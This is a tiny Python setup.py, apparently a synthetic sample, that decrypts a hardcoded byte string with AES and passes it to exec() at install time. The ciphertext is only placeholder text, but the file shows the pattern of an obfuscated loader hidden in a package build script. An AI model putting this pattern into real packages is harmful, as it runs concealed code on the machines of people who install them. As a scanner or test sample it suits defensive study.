# file: setup.py
from setuptools import setup
from Crypto.Cipher import AES
cipher = AES.new(b"0123456789abcdef", AES.MODE_CBC, b"fedcba9876543210")
code = cipher.decrypt(b"not a real ciphertext, only text")
exec(code)  # fires: install
setup(name="example", version="1.0")
